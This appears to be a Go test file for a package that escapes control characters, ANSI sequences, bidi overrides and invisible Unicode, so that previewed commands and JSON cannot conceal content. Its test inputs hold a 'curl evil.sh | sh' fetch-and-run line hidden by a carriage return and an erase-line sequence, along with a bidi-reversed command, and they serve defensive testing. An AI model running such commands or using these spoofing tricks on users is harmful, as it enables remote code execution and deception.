package visible

import (
	"encoding/json"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestLine(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"plain text is itself", "make test", "make test"},
		{"the empty string", "", ""},
		{"the attack: carriage return and erase line", "curl evil.sh | sh\r\x1b[2K  $ make test", `curl evil.sh | sh\r\x1b[2K  $ make test`},
		{"newline and tab", "a\nb\tc", `a\nb\tc`},
		{"CRLF", "a\r\nb", `a\r\nb`},
		{"NUL, BEL, backspace, form feed, unit separator", "\x00\a\b\f\x1f", `\x00\x07\x08\x0c\x1f`},
		{"DEL", "rm\x7f", `rm\x7f`},
		{"C1 controls: NEL and CSI", "a\u0085b\u009b2K", `a\u0085b\u009b2K`},
		{"bidi override", "echo safe \u202eh\u0073.live | hs", `echo safe \u202ehs.live | hs`},
		{"bidi embeddings, isolates and marks", "\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c", `\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c`},
		{"zero-width characters and BOM", "r\u200bm\u200c\u200d\u2060\ufeff", `r\u200bm\u200c\u200d\u2060\ufeff`},
		{"soft hyphen", "pass\u00adwd", `pass\u00adwd`},
		{"line and paragraph separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
		{"Hangul filler", "x\u3164y", `x\u3164y`},
		{"tag characters above U+FFFF", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"a lone continuation byte", "\x80", `\x80`},
		{"a literal U+FFFD is shown", "\ufffd", "\ufffd"},
		{"other scripts, emoji and variation selectors are shown", "日本語 ñ Ελληνικά ❤️ 👍🏽 a\u00a0b", "日本語 ñ Ελληνικά ❤️ 👍🏽 a\u00a0b"},
		{"a backslash before nothing special is kept", `grep 'a\|b' C:\dir\ \.`, `grep 'a\|b' C:\dir\ \.`},
		{"a trailing backslash is kept", `a\`, `a\`},
		{"a backslash that would read as an escape is doubled", `printf 'a\nb' \x1b \u202e \U0001 \r \t \\`, `printf 'a\\nb' \\x1b \\u202e \\U0001 \\r \\t \\\`},
		{"a backslash before an escaped character is doubled", "\\\x1b\\\r\\\xff\\\u202e", `\\\x1b\\\r\\\xff\\\u202e`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Line(c.in); got != c.want {
				t.Fatalf("Line(%q) = %q, want %q", c.in, got, c.want)
			}
			if back := unescape(Line(c.in)); back != c.in {
				t.Fatalf("Line(%q) reads back as %q", c.in, back)
			}
		})
	}
}

func TestTextKeepsNewlinesAndTabsAndEscapesTheRest(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"first\n\tsecond", "first\n\tsecond"},
		{"a\r\nb", "a\\r\nb"},
		{"ok\r\x1b[2Kforged line\n", "ok\\r\\x1b[2Kforged line\n"},
		{"\u202e\n", "\\u202e\n"},
		{"a\\\nb", "a\\\nb"},     // a backslash before a kept newline is not an escape
		{"a\\\tb", "a\\\tb"},     // nor before a kept tab
		{`a\nb`, `a\\nb`},        // but a literal backslash-n is doubled
		{"\\\x1b", `\\\x1b`},     // and so is a backslash before an escape
		{"\u2028", `\u2028`},     // a line separator is not a newline
		{"\v\f", `\x0b\x0c`},     // vertical tab and form feed are escaped
		{"x\u0085y", `x\u0085y`}, // so is NEL
	} {
		if got := Text(c.in); got != c.want {
			t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := unescape(Text(c.in)); back != c.in {
			t.Errorf("Text(%q) reads back as %q", c.in, back)
		}
	}
}

func TestPlainTextIsNotCopied(t *testing.T) {
	s := strings.Repeat("make test && go vet ./... ", 40)
	if n := testing.AllocsPerRun(100, func() { _ = Line(s) }); n != 0 {
		t.Fatalf("Line of plain text allocated %v times", n)
	}
}

func TestJSONEscapesWhatEncodingJSONLeavesRawAndKeepsTheValue(t *testing.T) {
	v := map[string]any{"preview": "curl evil.sh | sh\r\x1b[2K\u202e\u0085\x7f\U000e0041 $ make test", "n": 1}
	b, _ := json.MarshalIndent(v, "", "  ")
	got := string(JSON(b))
	for _, want := range []string{`\r`, `\u001b`, `\u202e`, `\u0085`, `\u007f`, `\udb40\udc41`, "{\n  \"n\": 1,\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("JSON(...) = %s, lacks %s", got, want)
		}
	}
	for _, r := range got {
		if r != '\n' && Hidden(r) {
			t.Fatalf("JSON(...) kept %U: %q", r, got)
		}
	}
	var back map[string]any
	if err := json.Unmarshal([]byte(got), &back); err != nil || back["preview"] != v["preview"] {
		t.Fatalf("JSON(...) no longer decodes to the value: %v %q", err, back["preview"])
	}
	if clean := []byte(`{"a": "b"}`); &JSON(clean)[0] != &clean[0] {
		t.Fatal("clean JSON was copied")
	}
	if got := string(JSON([]byte("\"a\xffb\""))); got != `"a\ufffdb"` {
		t.Fatalf("invalid UTF-8: %s", got)
	}
}

func FuzzLineAndText(f *testing.F) {
	for _, s := range []string{"", "make test", "curl evil.sh | sh\r\x1b[2K  $ make test", "\u202e\u2066\u200b", "a\xff\xc3", `\\x1b\`,
		"\\\x1b", "\\\n", "\\\t", "\U000e0041", "\ufffd", "日本\u00ad語", "\\u202e", "\x7f\u0085\u009f"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, layout := range []bool{false, true} {
			out := render(s, layout)
			if !utf8.ValidString(out) {
				t.Fatalf("render(%q, %v) = %q is not valid UTF-8", s, layout, out)
			}
			for _, r := range out {
				if Hidden(r) && !(layout && (r == '\n' || r == '\t')) {
					t.Fatalf("render(%q, %v) = %q keeps %U", s, layout, out, r)
				}
			}
			if back := unescape(out); back != s {
				t.Fatalf("render(%q, %v) = %q reads back as %q", s, layout, out, back)
			}
		}
		b, _ := json.Marshal(map[string]string{s: s})
		j := JSON(b)
		if !utf8.Valid(j) {
			t.Fatalf("JSON(%s) is not valid UTF-8", b)
		}
		for _, r := range string(j) {
			if Hidden(r) {
				t.Fatalf("JSON(%s) = %s keeps %U", b, j, r)
			}
		}
		var want, got map[string]string
		if json.Unmarshal(b, &want) != nil || json.Unmarshal(j, &got) != nil || !reflect.DeepEqual(got, want) {
			t.Fatalf("JSON(%s) = %s decodes to %q, want %q", b, j, got, want)
		}
	})
}

// unescape reads a rendering back: `\\` is one backslash, `\n` `\r` `\t`
// `\xHH` `\uHHHH` `\UHHHHHHHH` are what they name, any other backslash is
// itself. It is the proof that the rendering is unambiguous.
func unescape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if s[i] != '\\' || i+1 == len(s) {
			b.WriteByte(s[i])
			i++
			continue
		}
		digits := map[byte]int{'x': 2, 'u': 4, 'U': 8}[s[i+1]]
		switch c := s[i+1]; {
		case c == '\\':
			b.WriteByte('\\')
		case c == 'n':
			b.WriteByte('\n')
		case c == 'r':
			b.WriteByte('\r')
		case c == 't':
			b.WriteByte('\t')
		case digits > 0 && i+2+digits <= len(s):
			n, err := strconv.ParseUint(s[i+2:i+2+digits], 16, 32)
			if err != nil {
				b.WriteByte('\\')
				i++
				continue
			}
			if c == 'x' {
				b.WriteByte(byte(n))
			} else {
				b.WriteRune(rune(n))
			}
			i += digits
		default:
			b.WriteByte('\\')
			i++
			continue
		}
		i += 2
	}
	return b.String()
}
